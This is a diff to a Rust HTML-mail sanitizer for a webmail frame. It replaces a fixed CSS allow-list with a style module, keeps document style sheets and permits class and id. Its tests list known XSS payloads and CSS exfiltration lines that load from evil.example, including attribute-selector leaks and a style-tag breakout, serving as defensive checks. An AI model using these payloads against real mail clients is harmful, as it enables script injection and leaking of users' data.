@@ -1,7 +1,7 @@
 //! HTML mail, made harmless.
 //!
-//! What is left has no script, no form, no SVG or MathML, no style sheet, no position of its own choosing, and loads
-//! nothing from elsewhere unless the person asked for its pictures. The page that carries it is a document of its own,
+//! What is left has no script, no form, no SVG or MathML, styles by an allow-list ([`style`]), no position of its own
+//! choosing, and loads nothing from elsewhere unless the person asked for its pictures. The page that carries it is a document of its own,
 //! without an origin ([`POLICY`]): should something get through here, it is still nowhere near the webmail.
 
 use std::borrow::Cow;
@@ -11,6 +11,9 @@ use std::sync::atomic::{AtomicU32, Ordering};
 
 use ammonia::{Builder, UrlRelative};
 use percent_encoding::percent_decode_str;
+use sekisho_message::html::{Looks, looks};
+
+use super::style;
 
 /// The policy of the frame's document. Pictures that belong to the message are within it, as `data:`.
 pub(super) const POLICY: &str = "default-src 'none'; style-src 'unsafe-inline'; img-src data:; \
@@ -52,66 +55,8 @@ const DROPPED: [&str; 18] = [
     "plaintext",
 ];
 
-/// What a style attribute may set. Nothing that places an element over others, and nothing that can name an address.
-const STYLES: [&str; 56] = [
-    "background-color",
-    "border",
-    "border-bottom",
-    "border-bottom-color",
-    "border-bottom-style",
-    "border-bottom-width",
-    "border-collapse",
-    "border-color",
-    "border-left",
-    "border-left-color",
-    "border-left-style",
-    "border-left-width",
-    "border-radius",
-    "border-right",
-    "border-right-color",
-    "border-right-style",
-    "border-right-width",
-    "border-spacing",
-    "border-style",
-    "border-top",
-    "border-top-color",
-    "border-top-style",
-    "border-top-width",
-    "border-width",
-    "color",
-    "direction",
-    "display",
-    "font-family",
-    "font-size",
-    "font-style",
-    "font-variant",
-    "font-weight",
-    "height",
-    "letter-spacing",
-    "line-height",
-    "list-style-type",
-    "margin",
-    "margin-bottom",
-    "margin-left",
-    "margin-right",
-    "margin-top",
-    "max-width",
-    "padding",
-    "padding-bottom",
-    "padding-left",
-    "padding-right",
-    "padding-top",
-    "table-layout",
-    "text-align",
-    "text-decoration",
-    "text-indent",
-    "text-transform",
-    "vertical-align",
-    "white-space",
-    "width",
-    "word-break",
-];
-
+/// The longest style sheets that are looked at, in bytes together. What is beyond is left out.
+const MOST_STYLE: usize = 256 * 1024;
 /// The longest HTML that is made harmless, in bytes, and the most tags in it: parsing takes the square of their number
 /// when they are nested.
 const MOST: (usize, usize) = (1024 * 1024, 10_000);
@@ -227,6 +172,8 @@ pub(super) type Pictures = HashMap<String, String>;
 pub(super) struct Clean {
     /// The content of a `<body>`.
     pub body: String,
+    /// The style sheet that goes with it.
+    pub style: String,
     /// How many pictures from elsewhere were left out.
     pub left_out: u32,
 }
@@ -241,12 +188,11 @@ pub(super) fn clean(html: &str, pictures: Pictures, remote: bool) -> Clean {
         .clean_content_tags(HashSet::from(DROPPED))
         .rm_tags(["area", "map", "details", "summary"])
         .add_generic_attributes([
-            "style", "dir", "align", "valign", "bgcolor", "width", "height",
+            "style", "class", "id", "dir", "align", "valign", "bgcolor", "width", "height",
         ])
         .add_tag_attributes("font", ["color", "face", "size"])
         .add_tag_attributes("table", ["border", "cellpadding", "cellspacing"])
         .add_tag_attributes("td", ["nowrap"])
-        .filter_style_properties(HashSet::from(STYLES))
         .url_schemes(HashSet::from([
             "http", "https", "mailto", "tel", "data", "cid",
         ]))
@@ -258,15 +204,40 @@ pub(super) fn clean(html: &str, pictures: Pictures, remote: bool) -> Clean {
                 ("img", "src") => picture(value, &pictures, remote, &counter).map(Cow::Owned),
                 (_, "href") => is_link(value).then_some(Cow::Borrowed(value)),
                 (_, "cite") => None,
-                (_, "style") => Some(Cow::Owned(without_addresses(value))),
+                (_, "style") => Some(style::declarations(value))
+                    .filter(|left| !left.is_empty())
+                    .map(Cow::Owned),
                 _ => Some(Cow::Borrowed(value)),
             },
         );
     let body = builder.clean(html).to_string();
     Clean {
         body,
+        style: style_of(&looks(html)),
         left_out: left_out.load(Ordering::Relaxed),
     }
+}
+
+/// The document's own style sheets, behind the colours of its body.
+fn style_of(looks: &Looks<'_>) -> String {
+    let attribute = |property: &str, value: &Option<Cow<'_, str>>| {
+        let value = value.as_deref().unwrap_or_default();
+        style::colour(property, value)
+    };
+    let body = [
+        attribute("background-color", &looks.background),
+        attribute("color", &looks.text),
+        style::declarations(looks.body_style.as_deref().unwrap_or_default()),
+    ];
+    let link = attribute("color", &looks.link);
+    let mut room = MOST_STYLE;
+    let sheets = looks.sheets.iter().take_while(|sheet| {
+        let fits = sheet.len() <= room;
+        room = room.saturating_sub(sheet.len());
+        fits
+    });
+    let sheets: String = sheets.map(|sheet| style::sheet(sheet)).collect();
+    format!("body{{{}}}a{{{link}}}{sheets}", body.join(";"))
 }
 
 /// A whole document for the frame. It is paper-white in dark mode as well, since mail sets its colours against white.
@@ -275,8 +246,8 @@ pub(super) fn document(clean: &Clean) -> String {
         "<!doctype html><meta charset=utf-8><meta name=viewport content=\"width=device-width\"><meta name=referrer content=no-referrer>\
          <style>:root{{color-scheme:light}}body{{margin:16px;background:#fff;color:#1c2333;font:16px/1.65 system-ui,sans-serif;overflow-wrap:anywhere}}\
          img{{max-width:100%;height:auto}}table{{max-width:100%}}pre{{white-space:pre-wrap}}\
-         blockquote{{margin:0 0 0 4px;padding-left:12px;border-left:3px solid #dcd5c6}}</style>{}",
-        clean.body
+         blockquote{{margin:0 0 0 4px;padding-left:12px;border-left:3px solid #dcd5c6}}{}</style>{}",
+        clean.style, clean.body
     )
 }
 
@@ -312,21 +283,6 @@ fn picture(
     None
 }
 
-/// A style without what could name an address, or hide that it does.
-fn without_addresses(style: &str) -> String {
-    let names_one = |declaration: &&str| {
-        let lower = declaration.to_ascii_lowercase();
-        ["url", "image", "expression", "\\", "@"]
-            .iter()
-            .any(|what| lower.contains(what))
-    };
-    style
-        .split(';')
-        .filter(|declaration| !names_one(declaration))
-        .collect::<Vec<_>>()
-        .join(";")
-}
-
 fn is_link(address: &str) -> bool {
     let scheme = address
         .trim()
@@ -343,6 +299,11 @@ mod tests {
         clean(html, Pictures::new(), false).body
     }
 
+    /// The style sheet that is left, without the rules that are always there.
+    fn style(html: &str) -> String {
+        clean(html, Pictures::new(), false).style
+    }
+
     #[test]
     fn known_attacks_leave_nothing_that_acts() {
         for attack in [
@@ -354,6 +315,11 @@ mod tests {
             "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
             "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
             "<style>@import url(https://evil.example/x.css);</style>",
+            "<style>p{background:url(https://evil.example/x)}</style>",
+            "<style>p{font-family:'</sty'}</style><script>alert(1)</script>",
+            "<style>p[title^=a]{list-style:url(https://evil.example/a)}</style>",
+            "<style>div{position:fixed;top:0}</style>",
+            "<body style='background:url(https://evil.example/x)' bgcolor='red;position:fixed'>",
             "<link rel=stylesheet href=https://evil.example/x.css>",
             "<a href='javascript:alert(1)'>x</a>",
             "<a href='  JaVa\tScRiPt:alert(1)'>x</a>",
@@ -382,7 +348,8 @@ mod tests {
             "<p id=main class=notice name=csrf>x</p>",
             "<!--[if mso]><script>alert(1)</script><![endif]-->",
         ] {
-            let clean = cleaned(attack).to_ascii_lowercase();
+            let Clean { body, style, .. } = clean(attack, Pictures::new(), false);
+            let clean = (style + &body).to_ascii_lowercase();
             for harm in [
                 "script",
                 "onerror",
@@ -406,8 +373,6 @@ mod tests {
                 "data:",
                 "ping",
                 "_top",
-                "class=",
-                "id=",
                 "name=",
                 "<video",
                 "srcset",
@@ -452,6 +417,21 @@ mod tests {
             "<h1 style=\"color:red\">会議</h1><p>See <a href=\"https://kit.example/?a=1&amp;b=2\" target=\"_blank\" \
              rel=\"noopener noreferrer nofollow\">the page</a> <a href=\"mailto:a@kit.example\" target=\"_blank\" \
              rel=\"noopener noreferrer nofollow\">a</a>.</p>"
+        );
+    }
+
+    #[test]
+    fn colours_come_with_what_they_stand_against() {
+        let html = "<head><style>.dark{background:#222;color:#fff}</style></head>\
+            <body bgcolor=navy text=white link=yellow style='margin:0'>\
+            <table class=dark><tr><td style='background:#000 url(x);color:white'>x</td></tr></table>";
+        assert_eq!(
+            style(html),
+            "body{background-color:navy;color:white;margin:0}a{color:yellow}.dark{background-color:#222;color:#fff}"
+        );
+        assert_eq!(
+            cleaned(html),
+            "<table class=\"dark\"><tbody><tr><td style=\"background-color:#000;color:white\">x</td></tr></tbody></table>"
         );
     }
 
